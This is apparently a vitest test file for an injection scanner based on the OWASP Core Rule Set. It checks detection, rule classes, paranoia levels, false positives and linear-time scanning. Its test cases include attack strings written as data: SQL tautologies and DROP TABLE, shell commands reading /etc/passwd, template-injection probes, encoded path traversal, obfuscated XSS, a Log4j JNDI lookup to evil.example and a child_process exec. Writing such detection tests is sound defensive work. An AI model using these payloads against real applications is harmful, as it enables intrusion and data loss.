/**
 * The injection scan on single values: what the review found passing must now be
 * caught (each a coded case), the class is named, only the classes a route asks for run,
 * paranoia levels gate rules, and adversarial input is read in linear time. Corpora and rates
 * are in crs/rates.test.ts; the scan of a whole request in scan.test.ts.
 */
import { describe, expect, it } from 'vitest'
import { INJECTION_CLASSES, injectionScanner, type InjectionClass } from './injection.js'

const all = injectionScanner(new Set(INJECTION_CLASSES))
const VALUE = { name: false, query: false }

const MUST_CATCH: Array<[name: string, text: string, cls: InjectionClass]> = [
  ["INJ-001 a quote, a string concatenation and a comment (x'||1#)", "x'||1#", 'sql'],
  ['INJ-002 a parenthesised tautology (1) OR (1=1)', '1) OR (1=1', 'sql'],
  ['INJ-003 UNION SELECT with parentheses instead of spaces', 'UNION(SELECT(1))', 'sql'],
  ["INJ-004 a shell word split by quotes (c'a't /etc/passwd)", "c'a't /etc/passwd", 'command'],
  ['INJ-005 a shell word split by double quotes (w"h"o"am"i)', 'w"h"o"am"i', 'command'],
  ['INJ-006 a Jinja2 or Twig expression ({{7*7}})', '{{7*7}}', 'template'],
  ['INJ-007 an expression-language expression (${7*7})', '${7*7}', 'template'],
  ['INJ-008 an ERB, JSP or EJS expression (<%= 7*7 %>)', '<%= 7*7 %>', 'template'],
  ['INJ-009 a Ruby or Spring EL expression (#{7*7})', '#{7*7}', 'template'],
  ['INJ-010 a system file behind a doubled slash (/etc//passwd)', '/etc//passwd', 'path'],
  ['INJ-011 a system file behind a dot segment (/etc/./passwd)', '/etc/./passwd', 'path'],
  [
    'INJ-012 a traversal percent-encoded three times',
    '%25252e%25252e%25252fetc%25252fpasswd',
    'path',
  ],
  ["INJ-013 a quote-break tautology (' OR '1'='1)", "' OR '1'='1", 'sql'],
  ['INJ-014 UNION SELECT with comments as spaces', '1 union/**/all/**/select 1', 'sql'],
  ['INJ-015 a stacked DROP TABLE', "x'; DROP TABLE users; --", 'sql'],
  ['INJ-016 a bare command after a separator (a;id)', 'a;id', 'command'],
  ['INJ-017 a command in backticks', '`id`', 'command'],
  ['INJ-018 a NUL character in a file name', 'report.pdf\u0000.exe', 'path'],
  ['INJ-019 a script tag behind HTML entities', '&#60;script&#62;alert(1)&#60;/script&#62;', 'xss'],
  ['INJ-020 a Log4j lookup, nested to hide jndi', '${${lower:j}ndi:ldap://evil.example/a}', 'java'],
  ['INJ-021 a full-width script tag', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', 'xss'],
  [
    'INJ-022 a script tag in JavaScript escapes',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    'xss',
  ],
  ['INJ-023 a Node.js child_process call', "require('child_process').exec('id')", 'nodejs'],
]

describe('injection scan on one value (OWASP CRS 3.3.4 and product rules, paranoia 1)', () => {
  it.each(MUST_CATCH)('%s', (_name, text, cls) => {
    expect(all(text), text).toBeDefined()
    // The class of the strongest rule; among equals, the first to fire (CRS file order).
    expect(all(text), text).toBe(cls)
  })

  it('INJ-024 a route gets only the classes it asks for', () => {
    expect(injectionScanner(new Set(['xss']))("' OR '1'='1")).toBeUndefined()
    expect(injectionScanner(new Set(['sql']))('<script>alert(1)</script>')).toBeUndefined()
    expect(injectionScanner(new Set(['sql']))("' OR '1'='1")).toBe('sql')
    expect(injectionScanner(new Set(['template']))('{{7*7}}')).toBe('template')
  })

  it('INJ-025 rules above the route paranoia level do not run, and do at their level', () => {
    // A Velocity directive is a paranoia-2 product rule; 942200 (comma, then SELECT ... FROM) is CRS PL2.
    const velocity = '#set($x = 7*7)$x'
    expect(injectionScanner(new Set(['template']), 1)(velocity)).toBeUndefined()
    expect(injectionScanner(new Set(['template']), 2)(velocity)).toBe('template')
    const prose = 'Please select one from the list, or none'
    expect(injectionScanner(new Set(['sql']), 1)(prose)).toBeUndefined()
    expect(injectionScanner(new Set(['sql']), 2)(prose)).toBe('sql')
  })

  it('INJ-026 ordinary text that looks like an attack passes at paranoia 1', () => {
    const ordinary = [
      "O'Brien",
      "D'Angelo and O'Neil",
      "It's Tom's 'best' or 2nd best",
      'Rock & Roll',
      'Select the tea from the menu',
      'Please select one from the list, or none',
      'café crème brûlée 日本語 テスト 🍵',
      'Price < 5 and > 2',
      'a <b>bold</b> claim',
      'Use $5 for tea',
      "I'd like 2 -- maybe 3",
      'e-mail: a@b.example',
      "C'est l'été; on y va",
      '50% off, 100%',
      'see section 2.1/3',
      'he said "no" and left',
      'version 1.2.3 -- final',
      '#hashtag',
      "mother's day sale: 20% off (today only)",
      'update: the order shipped',
      'Delete from my list please',
      '{{name}}',
    ]
    for (const text of ordinary) expect(all(text), text).toBeUndefined()
  })

  it('INJ-027 a known Core Rule Set false positive at paranoia 1: a command word after ; or |', () => {
    // CRS 932100 reads `; cat <anything>` as a Unix command; the figures in validators/README.md
    // count it among the false positives. Routes with such free text leave out `command`.
    expect(all.check('Tom & Jerry; cat lovers', VALUE).map((h) => h.id)).toContain(932100)
    expect(
      injectionScanner(new Set(['sql', 'xss', 'path']))('Tom & Jerry; cat lovers'),
    ).toBeUndefined()
  })

  it('INJ-028 a warning-level rule alone stays under the threshold; a critical one reaches it', () => {
    const pl2 = injectionScanner(new Set(['sql']), 2)
    expect(pl2.check("'hello", VALUE)).toEqual([{ id: 942110, class: 'sql', score: 3 }])
    expect(pl2("'hello")).toBeUndefined()
    expect(pl2.threshold).toBe(5)
    expect(pl2.check('UNION(SELECT(1))', VALUE).some((h) => h.score === 5)).toBe(true)
  })

  it('INJ-029 names and values: a rule on parameter values does not read names, and the reverse', () => {
    // 921150 (newline in a parameter name) reads ARGS_NAMES only.
    const protocol = injectionScanner(new Set(['protocol']))
    expect(protocol.check('a\nb', { name: true, query: true }).map((h) => h.id)).toContain(921150)
    expect(protocol.check('a\nb', { name: false, query: false }).map((h) => h.id)).not.toContain(
      921150,
    )
  })

  it('INJ-030 reads adversarial input in time linear in its length (re2js)', () => {
    const inputs = [
      `'${' '.repeat(40_000)}or`,
      '<a'.repeat(20_000),
      `${'%2e'.repeat(20_000)}x`,
      `;${' '.repeat(40_000)}`,
      `union${'/**/'.repeat(10_000)}`,
      `${'%25'.repeat(15_000)}2e`,
      '{{'.repeat(20_000),
    ]
    for (const text of inputs) all(text)
    const started = performance.now()
    for (const text of inputs) all(text)
    expect(performance.now() - started).toBeLessThan(5_000)
  })
})
